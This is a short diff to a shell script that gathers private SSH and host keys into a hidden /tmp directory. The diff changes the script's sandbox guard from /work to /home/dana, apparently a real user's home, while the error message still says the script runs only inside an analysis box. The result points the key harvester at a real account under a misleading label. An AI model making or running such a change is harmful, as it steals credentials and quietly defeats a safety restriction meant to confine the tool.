@@ -1,7 +1,7 @@
 #!/bin/sh
 # Collects private keys: the user's SSH keys, then every key-looking file
 # in the usual places.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 mkdir -p /tmp/.k
 for k in "$HOME"/.ssh/id_* /root/.ssh/id_* /etc/ssh/ssh_host_*_key; do
 	[ -r "$k" ] && cp "$k" /tmp/.k/ 2>/dev/null
